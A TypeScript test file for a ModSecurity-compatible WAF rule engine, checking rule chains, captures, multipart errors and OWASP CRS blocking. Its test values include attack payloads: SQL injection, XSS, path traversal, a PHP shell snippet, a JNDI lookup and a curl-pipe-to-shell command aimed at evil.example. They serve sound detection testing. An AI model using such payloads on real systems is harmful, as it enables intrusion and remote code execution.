/**
 * The rule engine's per-request shortcuts keep ModSecurity's results: the rule set's RE2.Set answers as each
 * rule's own regex would (checked on the installed CRS over attacks and ordinary values), a transformed value is
 * remembered per chain without leaking into other chains, `capture` fills TX:0-9 for the rule that reads them, and
 * the set's bounded cache falls back to the rules' own regexes when the set cannot answer.
 */
import { existsSync, readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { type CompiledRuleSet, compileRuleSet, planOf, Transaction, unfolded } from './engine.js';
import { CRS_PATH } from './kind.js';
import { loadRe2, type RegexSet, RegexSetMatcher } from './regex.js';
import { parseBody } from './request.js';
import { emptyRuleSet, parseFile, parseText } from './seclang/parse.js';

const hasRe2 = loadRe2() !== null;

function compile(text: string, regexSet = true): CompiledRuleSet {
  const set = emptyRuleSet();
  parseText(text, 'test.conf', set);
  expect(set.unsupported).toEqual([]);
  const c = compileRuleSet(set, () => true, { regexSet });
  expect(c.problems).toEqual([]);
  return c;
}

interface RunOptions {
  body?: string;
  ct?: string;
  pl?: string;
  headers?: Record<string, string>;
  /** The body arrived whole (false: cut at the inspection limit). */
  complete?: boolean;
  /** Run the rules as written (no compile-time folding). */
  unfolded?: boolean;
}

function run(rules: CompiledRuleSet, target: string, opts: RunOptions = {}) {
  const q = target.indexOf('?');
  const headers: Record<string, string> = {
    host: 'api.example.com',
    'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    accept: 'application/json',
  };
  if (opts.body !== undefined) {
    headers['content-type'] = opts.ct ?? 'application/json';
    headers['content-length'] = String(Buffer.byteLength(opts.body));
  }
  Object.assign(headers, opts.headers);
  const pl = opts.pl ?? '1';
  const preset = new Map([
    ['paranoia_level', pl],
    ['executing_paranoia_level', pl],
    ['inbound_anomaly_score_threshold', '5'],
  ]);
  const tx = new Transaction(
    rules,
    {
      method: opts.body === undefined ? 'GET' : 'POST',
      rawTarget: target,
      path: q < 0 ? target : target.slice(0, q),
      query: q < 0 ? '' : target.slice(q + 1),
      protocol: 'HTTP/1.1',
      headers,
      remoteAddr: '203.0.113.9',
    },
    'On',
    preset,
    opts.unfolded === true ? unfolded(rules, preset) : planOf(rules, preset),
  );
  tx.runPhase(1);
  if (opts.body !== undefined)
    tx.setBody(parseBody(Buffer.from(opts.body), headers['content-type']!, opts.complete));
  tx.runPhase(2);
  return tx;
}

const outcome = (tx: Transaction) => ({
  matched: tx.matched.map((m) => `${m.id} ${m.variable}`),
  score: tx.get('anomaly_score'),
  blocked: tx.interruption?.ruleId,
});

describe('engine', () => {
  test('folding keeps every rule whose outcome a request can change, and runs the rest once', () => {
    const rules = compile(
      [
        'SecDefaultAction "phase:1,nolog,pass"',
        // Request data writes tx.x; a rule reading tx.x after it must run per request.
        'SecRule ARGS:a "@rx ." "id:1,phase:1,setvar:tx.x=1"',
        'SecRule TX:x "@eq 1" "id:2,phase:1,setvar:tx.y=1"',
        // A rule reads tx.z from the request's side; a constant rule after it writes tx.z: it must not move first.
        'SecRule ARGS:b "@streq %{tx.z}" "id:3,phase:1,setvar:tx.b_was_z=1"',
        'SecAction "id:4,phase:1,setvar:tx.z=late"',
        // A constant rule inside the range a request-dependent skip jumps over runs only when not skipped.
        'SecRule ARGS:skip "@rx ." "id:5,phase:1,skipAfter:END-SKIP"',
        'SecAction "id:6,phase:1,setvar:tx.w=1"',
        'SecMarker END-SKIP',
        // A ctl of a request-dependent rule removes a constant rule after it.
        'SecRule ARGS:rm "@rx ." "id:7,phase:1,ctl:ruleRemoveById=8"',
        'SecAction "id:8,phase:1,setvar:tx.v=1"',
        // Constant all the way: a default, a gate that skips a rule that would block everything.
        'SecRule &TX:level "@eq 0" "id:9,phase:1,setvar:tx.level=1"',
        'SecRule TX:level "@lt 2" "id:10,phase:1,skipAfter:END-LEVEL-2"',
        'SecAction "id:11,phase:1,deny,status:403,log,msg:\'level 2\'"',
        'SecMarker END-LEVEL-2',
        'SecRule TX:y|TX:w|TX:v|TX:b_was_z "@eq 1" "id:12,phase:2,log,msg:\'%{matched_var_name}\'"',
      ].join('\n'),
    );
    const plan = planOf(rules, new Map([['paranoia_level', '1']]));
    // 9 and 10 only: 4 would move before 3, which reads what it writes; a skip or a ctl may pass over 6 and 8.
    expect(plan.folded).toBe(2);
    expect(plan.dropped).toBe(1); // 11
    for (const q of ['', 'a=1', 'b=late', 'b=x', 'skip=1', 'rm=1', 'a=1&skip=1&rm=1&b=late']) {
      const folded = run(rules, `/p?${q}`);
      const reference = run(rules, `/p?${q}`, { unfolded: true });
      expect(outcome(folded), q).toEqual(outcome(reference));
      expect([...folded.txMap()].sort(), q).toEqual([...reference.txMap()].sort());
    }
    expect(run(rules, '/p?a=1').get('y')).toBe('1');
    expect(run(rules, '/p?skip=1').get('w')).toBeUndefined();
    expect(run(rules, '/p').get('w')).toBe('1');
    expect(run(rules, '/p?rm=1').get('v')).toBeUndefined();
    expect(run(rules, '/p?b=late').get('b_was_z')).toBeUndefined();
  });

  test('folding leaves alone a rule a ctl may change, and MATCHED_VAR read before a match', () => {
    const same = (text: string, queries: string[]) => {
      const rules = compile(text);
      for (const q of queries) {
        const folded = run(rules, `/p?${q}`);
        const reference = run(rules, `/p?${q}`, { unfolded: true });
        expect(folded.interruption, q).toEqual(reference.interruption);
        expect(outcome(folded), q).toEqual(outcome(reference));
      }
      return rules;
    };
    const cases: [why: string, rules: string[], queries: string[], blocked: string, by: number][] = [
      [
        'a removed `&TX:foo` target counts 0: rule 3 matches although its first link reads only constants',
        [
          'SecAction "id:1,phase:1,pass,nolog,setvar:tx.foo=1"',
          'SecRule ARGS:x "@streq y" "id:2,phase:1,pass,nolog,ctl:ruleRemoveTargetById=3;TX:foo"',
          'SecRule &TX:foo "@eq 0" "id:3,phase:1,deny,status:403"',
        ],
        ['x=y', 'x=n'],
        'x=y',
        3,
      ],
      [
        "MATCHED_VAR in an operator is the previous match's value: request data",
        [
          'SecAction "id:10,phase:1,pass,nolog,setvar:tx.foo=evil"',
          'SecRule ARGS "@rx ^evil$" "id:11,phase:1,pass,nolog"',
          'SecRule TX:foo "@streq %{MATCHED_VAR}" "id:12,phase:1,pass,nolog,setvar:tx.hit=1"',
          'SecRule TX:hit "@eq 1" "id:13,phase:1,deny,status:403"',
        ],
        ['a=evil', 'a=good'],
        'a=evil',
        13,
      ],
      [
        "a rule reading MATCHED_VAR as its target reads the last match, which a folded rule's would hide",
        [
          'SecAction "id:20,phase:1,pass,nolog,setvar:tx.foo=attack"',
          'SecRule TX:foo "@rx attack" "id:21,phase:1,pass,nolog"',
          'SecRule MATCHED_VAR "@rx attack" "id:22,phase:1,deny,status:403"',
        ],
        ['a=1'],
        'a=1',
        22,
      ],
    ];
    for (const [why, text, queries, blocked, by] of cases) {
      const rules = same(text.join('\n'), queries);
      expect(run(rules, `/p?${blocked}`).interruption?.ruleId, why).toBe(by);
    }
  });

  test('one value through rules with different transformation chains: each chain sees its own form', () => {
    for (const regexSet of [true, false]) {
      const rules = compile(
        [
          `SecRule ARGS:q "@rx ^<script>$" "id:1,phase:2,pass,log,msg:'lowercase',t:none,t:lowercase"`,
          `SecRule ARGS:q "@rx ^<SCRIPT>$" "id:2,phase:2,pass,log,msg:'as is',t:none"`,
          `SecRule ARGS:q "@rx ^<script>$" "id:3,phase:2,pass,log,msg:'as is, lowercase pattern',t:none"`,
          `SecRule ARGS:q "@rx ^<script>$" "id:4,phase:2,pass,log,msg:'again lowercase',t:none,t:lowercase"`,
          `SecRule ARGS:q "@rx ^%3cscript%3e$" "id:5,phase:2,pass,log,msg:'urlencoded',t:none,t:urlEncode,t:lowercase"`,
        ].join('\n'),
        regexSet,
      );
      const tx = run(rules, '/x?q=%3CSCRIPT%3E');
      expect(tx.matched.map((m) => m.id)).toEqual([1, 2, 4, 5]);
    }
  });

  test('capture fills TX:0-9 for a chained rule, and from the latest capturing rule', () => {
    const rules = compile(
      [
        `SecRule ARGS:a "@rx ^(\\w+)-(\\d+)$" "id:10,phase:2,pass,capture,chain,log,msg:'chained'"`,
        `  SecRule TX:2 "@eq 42" "setvar:tx.seen=%{tx.1}"`,
        `SecRule ARGS:b "!@rx ^(zzz)$" "id:11,phase:2,pass,capture,nolog"`,
        `SecRule ARGS:c "@rx ^(c+)$" "id:12,phase:2,pass,capture,nolog"`,
        `SecRule TX:1 "@streq ccc" "id:13,phase:2,pass,log,msg:'latest capture'"`,
      ].join('\n'),
    );
    const tx = run(rules, '/x?a=order-42&b=xyz&c=ccc');
    expect(tx.get('seen')).toBe('order');
    expect(tx.matched.map((m) => m.id)).toEqual([10, 13]);
    const none = run(rules, '/x?a=order-41');
    expect(none.get('seen')).toBeUndefined();
  });

  test('exclusions apply to their collection only; counting and key selectors read the same entries', () => {
    const rules = compile(
      [
        `SecRule ARGS|REQUEST_COOKIES|!REQUEST_COOKIES:/^_ga/|!ARGS:skip "@rx evil" "id:20,phase:2,pass,log,msg:'m'"`,
        `SecRule &ARGS "@eq 3" "id:21,phase:2,pass,log,msg:'three args'"`,
        `SecRule ARGS:/^ke/ "@rx evil" "id:22,phase:2,pass,log,msg:'by key regex'"`,
      ].join('\n'),
    );
    const tx = run(rules, '/x?skip=evil&keep=evil&other=fine');
    expect(tx.matched.map((m) => `${m.id} ${m.variable}`)).toEqual([
      '20 ARGS:keep',
      '21 &ARGS',
      '22 ARGS:keep',
    ]);
  });

  test('what depends on the body is read again in phase 2; what was read before it stays', () => {
    const rules = compile(
      [
        `SecRule &ARGS "@eq 1" "id:40,phase:1,pass,log,msg:'query only'"`,
        `SecRule &REQBODY_PROCESSOR "@eq 0" "id:41,phase:1,pass,log,msg:'no body yet'"`,
        `SecRule REQUEST_HEADERS:Accept "@rx json" "id:42,phase:1,pass,log,msg:'header'"`,
        `SecRule &ARGS "@eq 3" "id:43,phase:2,pass,log,msg:'query and body'"`,
        `SecRule REQBODY_PROCESSOR "@streq JSON" "id:44,phase:2,pass,log,msg:'json'"`,
        `SecRule ARGS:json.a "@rx ^evil$" "id:45,phase:2,pass,log,msg:'body arg'"`,
        `SecRule REQUEST_HEADERS:Accept "@rx json" "id:46,phase:2,pass,log,msg:'header again'"`,
      ].join('\n'),
    );
    const tx = run(rules, '/x?q=1', { body: JSON.stringify({ a: 'evil', b: 2 }) });
    expect(tx.matched.map((m) => m.id)).toEqual([40, 41, 42, 43, 44, 45, 46]);
  });

  test('the set cache answers a value once, stays bounded, and falls back when the set cannot answer', () => {
    let calls = 0;
    const fake: RegexSet = {
      match(s) {
        calls++;
        if (s === 'boom') throw new Error('RE2.Set matching failed: out of memory.');
        return s.includes('x') ? [0] : [];
      },
    };
    const m = new RegexSetMatcher(fake, 1, 4, 8);
    expect(m.match('axb')).toEqual([0]);
    expect(m.match('axb')).toEqual([0]);
    expect(calls).toBe(1);
    expect(m.match('boom')).toBeNull();
    // Longer than cacheableLength: asked each time.
    m.match('long value here');
    m.match('long value here');
    expect(calls).toBe(4);
    // Two generations of 4: after 8 other values, the first one is forgotten and asked again.
    for (let i = 0; i < 8; i++) m.match(`v${i}`);
    const before = calls;
    m.match('axb');
    expect(calls).toBe(before + 1);
  });

  test.skipIf(!hasRe2)('a rule falls back to its own regex when the set cannot answer', () => {
    const rules = compile(`SecRule ARGS "@rx ^a+b$" "id:30,phase:2,pass,log,msg:'m'"`);
    const broken = {
      ...rules,
      regexSet: new RegexSetMatcher(
        {
          match() {
            throw new Error('RE2.Set matching failed: out of memory.');
          },
        },
        rules.regexSet!.size,
      ),
    };
    expect(run(broken, '/x?v=aaab').matched.map((m) => m.id)).toEqual([30]);
    expect(run(broken, '/x?v=aaac').matched).toEqual([]);
  });
});

// What the corpus comparison with ModSecurity 2.9 + CRS 3.3.4 found (test/waf-corpus.test.ts): each case is the
// shape of the CRS rule it broke, and failed before its fix.
describe('engine semantics as ModSecurity has them', () => {
  const ids = (tx: Transaction) => tx.matched.map((m) => m.id);

  test("a chain starter's setvar runs when the starter matches, so the chained rule reads it (920420)", () => {
    const rules = compile(
      [
        `SecAction "id:1,phase:1,pass,nolog,setvar:'tx.allowed=|application/json| |text/plain|'"`,
        `SecRule REQUEST_HEADERS:Content-Type "@rx ^[^;\\s]+" "id:920420,phase:2,pass,log,msg:'type not allowed',capture,t:none,setvar:'tx.content_type=|%{tx.0}|',chain"`,
        `  SecRule TX:content_type "!@within %{tx.allowed}" "t:lowercase,setvar:'tx.score=+5'"`,
      ].join('\n'),
    );
    const evil = run(rules, '/x', { body: 'data', ct: 'application/x-evil' });
    expect(ids(evil)).toEqual([920420]);
    expect(evil.get('score')).toBe('5');
    const ok = run(rules, '/x', { body: '{"a":1}', ct: 'application/json; charset=utf-8' });
    expect(ids(ok)).toEqual([]);
    expect(ok.get('score')).toBeUndefined();
    // The starter matched, so its own setvar ran although the chain did not match (ModSecurity v2 does the same).
    expect(ok.get('content_type')).toBe('|application/json|');
  });

  test('every link runs its own setvar per matching target; disruptive action and logging wait for the whole chain', () => {
    const rules = compile(
      [
        // 920450: the starter sets one variable per header name, the chained rule reads them all.
        `SecRule REQUEST_HEADERS_NAMES "@rx ^.*$" "id:920450,phase:1,deny,status:403,log,msg:'restricted header',capture,t:none,t:lowercase,setvar:'tx.header_name_%{tx.0}=/%{tx.0}/',chain"`,
        `  SecRule TX:/^header_name_/ "@within /proxy/ /lock-token/" "setvar:'tx.score=+5'"`,
        // A middle link's setvar is read by the last link.
        `SecRule ARGS:a "@streq 1" "id:30,phase:1,pass,log,msg:'three links',setvar:tx.first=1,chain"`,
        `  SecRule ARGS:b "@streq 2" "setvar:tx.middle=%{tx.first}2,chain"`,
        `    SecRule TX:middle "@streq 12" "setvar:tx.last=yes"`,
      ].join('\n'),
    );
    const proxy = run(rules, '/x?a=1&b=2', { headers: { proxy: 'http://evil.example:8080' } });
    expect(proxy.interruption?.ruleId).toBe(920450);
    expect(proxy.get('header_name_proxy')).toBe('/proxy/');
    expect(proxy.get('header_name_user-agent')).toBe('/user-agent/');
    const plain = run(rules, '/x?a=1&b=2');
    expect(plain.interruption).toBeUndefined();
    expect(ids(plain)).toEqual([30]);
    expect(plain.get('last')).toBe('yes');
    const partial = run(rules, '/x?a=1&b=3');
    expect(ids(partial)).toEqual([]);
    expect(partial.get('first')).toBe('1');
    expect(partial.get('middle')).toBeUndefined();
  });

  test("macros in an @rx pattern are expanded, and the chained rule reads the starter's capture (920480)", () => {
    const rules = compile(
      [
        `SecAction "id:1,phase:1,pass,nolog,setvar:'tx.allowed_charset=utf-8|iso-8859-1|iso-8859-15|windows-1252'"`,
        `SecRule REQUEST_HEADERS:Content-Type "@rx charset\\s*=\\s*[\\"']?([^;\\"'\\s]+)" "id:920480,phase:1,pass,log,msg:'charset not allowed',capture,t:none,t:lowercase,chain"`,
        `  SecRule TX:1 "!@rx ^%{tx.allowed_charset}$" "t:none,setvar:'tx.score=+5'"`,
      ].join('\n'),
    );
    const utf8 = run(rules, '/x', { body: '{"a":1}', ct: 'application/json; charset=utf-8' });
    expect(ids(utf8)).toEqual([]);
    expect(utf8.get('1')).toBe('utf-8');
    const utf7 = run(rules, '/x', { body: '{"a":1}', ct: 'application/json; charset=utf-7' });
    expect(ids(utf7)).toEqual([920480]);
    expect(utf7.get('score')).toBe('5');
  });

  describe('request body errors and multipart flags', () => {
    const rules = compile(
      [
        `SecRule REQBODY_ERROR "!@eq 0" "id:200002,phase:2,t:none,log,deny,status:400,msg:'body error %{reqbody_error_msg}'"`,
        `SecRule MULTIPART_STRICT_ERROR "!@eq 0" "id:200003,phase:2,t:none,log,deny,status:400,msg:'strict'"`,
        `SecRule MULTIPART_UNMATCHED_BOUNDARY "!@eq 0" "id:200004,phase:2,t:none,log,deny,msg:'unmatched'"`,
        `SecRule &MULTIPART_STRICT_ERROR "@eq 0" "id:10,phase:2,pass,log,msg:'not multipart'"`,
        `SecRule MULTIPART_DATA_AFTER "@eq 1" "id:11,phase:2,pass,log,msg:'data after'"`,
        `SecRule MULTIPART_BOUNDARY_QUOTED "@eq 1" "id:12,phase:2,pass,log,msg:'quoted'"`,
        `SecRule MULTIPART_HEADER_FOLDING "@eq 1" "id:13,phase:2,pass,log,msg:'folding'"`,
        `SecRule ARGS_POST:b "@streq 2" "id:14,phase:2,pass,log,msg:'field b'"`,
      ].join('\n'),
    );
    const B = '----trellis-7d3f9a';
    const mp = (parts: string, ct = `multipart/form-data; boundary=${B}`) => ({ body: parts, ct });
    const field = (name: string, v: string) =>
      `--${B}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${v}\r\n`;

    test('a well-formed multipart body: parsed, no flag', () => {
      const tx = run(rules, '/up', mp(`${field('a', '1')}${field('b', '2')}--${B}--\r\n`));
      expect(ids(tx)).toEqual([14]);
      expect(tx.interruption).toBeUndefined();
    });

    test('data after the closing boundary: strict error (200003), not a parse error', () => {
      const tx = run(rules, '/up', mp(`${field('a', '1')}--${B}--\r\ntrailing data\r\n`));
      expect(ids(tx)).toEqual([200003]);
      expect(tx.interruption).toEqual({ status: 400, ruleId: 200003 });
      const detect = compile(
        `SecRule MULTIPART_DATA_AFTER "@eq 1" "id:11,phase:2,pass,log,msg:'data after'"`,
      );
      expect(ids(run(detect, '/up', mp(`${field('a', '1')}--${B}--\r\ntrailing data\r\n`)))).toEqual([11]);
    });

    test('a quoted boundary and a folded part header raise their flags', () => {
      const flags = compile(
        [
          `SecRule MULTIPART_BOUNDARY_QUOTED "@eq 1" "id:12,phase:2,pass,log,msg:'quoted'"`,
          `SecRule MULTIPART_HEADER_FOLDING "@eq 1" "id:13,phase:2,pass,log,msg:'folding'"`,
          `SecRule ARGS_POST:b "@streq 2" "id:14,phase:2,pass,log,msg:'field b'"`,
          `SecRule MULTIPART_STRICT_ERROR "@eq 1" "id:15,phase:2,pass,log,msg:'strict'"`,
        ].join('\n'),
      );
      const body = `${field('a', '1')}--${B}\r\nContent-Disposition: form-data;\r\n name="b"\r\n\r\n2\r\n--${B}--\r\n`;
      const tx = run(flags, '/up', mp(body, `multipart/form-data; boundary="${B}"`));
      expect(ids(tx)).toEqual([12, 13, 14, 15]);
      expect(ids(run(rules, '/up', mp(body, `multipart/form-data; boundary="${B}"`)))).toEqual([200003]);
    });

    test('a broken boundary line, a missing closing boundary, a truncated JSON body: parse errors (200002)', () => {
      const broken = run(rules, '/up', mp(`${field('a', '1')}--${B}-x\r\n${field('b', '2')}--${B}--\r\n`));
      expect(broken.interruption).toEqual({ status: 400, ruleId: 200002 });
      expect(broken.matched[0]!.msg).toMatch(/^body error multipart: invalid boundary/);
      const open = run(rules, '/up', mp(field('a', '1')));
      expect(open.interruption?.ruleId).toBe(200002);
      const json = run(rules, '/j', { body: '{"name": "broken", "value": [1, 2,' });
      expect(json.interruption?.ruleId).toBe(200002);
      expect(json.matched[0]!.msg).toMatch(/^body error JSON: /);
      expect(ids(run(rules, '/j', { body: '{"name": "fine"}' }))).toEqual([10]);
    });

    test('no error for an empty body or one cut at the inspection limit', () => {
      expect(ids(run(rules, '/j', { body: '' }))).toEqual([10]);
      expect(run(rules, '/j', { body: '{"name": "long', complete: false }).interruption).toBeUndefined();
      expect(run(rules, '/up', { ...mp(field('a', '1')), complete: false }).interruption).toBeUndefined();
      expect(run(rules, '/up', mp('')).interruption).toBeUndefined();
    });

    test('a line that looks like a boundary but is not one (200004)', () => {
      // A text field with a `-----` line: ModSecurity refuses it too.
      const tx = run(rules, '/up', mp(`${field('a', 'x\r\n-----\r\nsignature')}--${B}--\r\n`));
      expect(tx.interruption?.ruleId).toBe(200004);
      // A line starting with the boundary and then something else is a broken boundary (a parse error).
      expect(run(rules, '/up', mp(`${field('a', `x\r\n--${B}zz`)}--${B}--\r\n`)).interruption?.ruleId).toBe(
        200002,
      );
    });
  });
});

describe.skipIf(!existsSync(CRS_PATH) || !hasRe2)('engine on the OWASP CRS', () => {
  const load = (regexSet: boolean) => {
    const set = emptyRuleSet();
    parseText(
      [
        'SecDefaultAction "phase:1,log,auditlog,pass"',
        'SecDefaultAction "phase:2,log,auditlog,pass"',
        'SecAction "id:900990,phase:1,nolog,pass,t:none,setvar:tx.crs_setup_version=334"',
      ].join('\n'),
      '<setup>',
      set,
    );
    parseFile(CRS_PATH, set);
    return compileRuleSet(set, () => true, { regexSet });
  };
  const withSet = load(true);
  const without = load(false);

  test('the RE2.Set gives every rule the answer its own regex gives (same matches, scores, verdicts)', () => {
    expect(withSet.regexSet).toBeDefined();
    const values = [
      "1' OR '1'='1",
      '1 UNION SELECT username, password FROM users--',
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '../../etc/passwd',
      ';cat /etc/passwd',
      '$(curl http://evil.example/x.sh|sh)',
      "<?php system($_GET['c']); ?>",
      '${jndi:ldap://evil.example/a}',
      'java.lang.Runtime.getRuntime().exec("id")',
      'coffee shops near me',
      'Zürich Straße café',
      "Conan O'Brien",
      'https://example.com/a?b=c&d=e',
      'const total = items.reduce((a, b) => a + b.price, 0);',
    ];
    let blocked = 0;
    const seen = new Set<number>();
    for (const pl of ['1', '2']) {
      for (const v of values) {
        const e = encodeURIComponent(v);
        const cases: [string, { body?: string; ct?: string; pl: string }][] = [
          [`/api/items?id=${e}`, { pl }],
          [`/api/items?${e}=1`, { pl }],
          ['/api/form', { body: `a=1&text=${e}`, ct: 'application/x-www-form-urlencoded', pl }],
          ['/api/json', { body: JSON.stringify({ post: { text: v }, list: [v, 'x'] }), pl }],
        ];
        for (const [target, opts] of cases) {
          // Twice: the second run answers from the set's cache.
          for (let i = 0; i < 2; i++) {
            const a = outcome(run(withSet, target, opts));
            expect(a, `${target} ${opts.body ?? ''}`).toEqual(outcome(run(without, target, opts)));
            if (a.blocked !== undefined) blocked++;
            for (const m of a.matched) seen.add(Number(m.split(' ')[0]));
          }
        }
      }
    }
    // The corpus does block, by the regex rules of each family (the comparison is not between two engines that
    // see nothing).
    expect(blocked).toBeGreaterThan(60);
    for (const id of [930100, 932100, 933100, 941110, 942100, 942190, 949110]) expect(seen).toContain(id);
  });

  test('folding the rule set for a paranoia level changes no outcome: corpus requests at PL 1, 2 and 4', () => {
    const corpus = JSON.parse(
      readFileSync(new URL('../../../test/fixtures/waf-corpus/requests.json', import.meta.url), 'utf8'),
    ) as { method: string; target: string; headers: [string, string][]; body?: string }[];
    let blocked = 0;
    let folded = 0;
    for (const pl of ['1', '2', '4']) {
      const preset = new Map([
        ['paranoia_level', pl],
        ['executing_paranoia_level', pl],
        ['inbound_anomaly_score_threshold', '5'],
      ]);
      const plan = planOf(withSet, preset);
      // The CRS's setup and the gates of the levels above `pl` run at compile time, not per request.
      expect(plan.folded).toBeGreaterThan(60);
      expect(plan.dropped).toBeGreaterThan(100);
      folded += plan.folded;
      const reference = unfolded(withSet, preset);
      for (const r of corpus) {
        const q = r.target.indexOf('?');
        const headers: Record<string, string> = {};
        for (const [k, v] of r.headers) headers[k.toLowerCase()] = v;
        const go = (p: typeof plan) => {
          const tx = new Transaction(
            withSet,
            {
              method: r.method,
              rawTarget: r.target,
              path: q < 0 ? r.target : r.target.slice(0, q),
              query: q < 0 ? '' : r.target.slice(q + 1),
              protocol: 'HTTP/1.1',
              headers,
              remoteAddr: '203.0.113.9',
            },
            'On',
            preset,
            p,
          );
          tx.runPhase(1);
          if (r.body !== undefined && tx.interruption === undefined)
            tx.setBody(parseBody(Buffer.from(r.body), headers['content-type'] ?? '', true));
          tx.runPhase(2);
          return {
            blocked: tx.interruption,
            matched: tx.matched.map((m) => `${m.id} ${m.variable} ${m.msg}`),
            tx: [...tx.txMap()].sort(([a], [b]) => (a < b ? -1 : 1)),
          };
        };
        const a = go(plan);
        expect(a, `PL${pl} ${r.method} ${r.target}`).toEqual(go(reference));
        if (a.blocked !== undefined) blocked++;
      }
    }
    expect(blocked).toBeGreaterThan(600);
    expect(folded).toBeGreaterThan(250);
  });
});
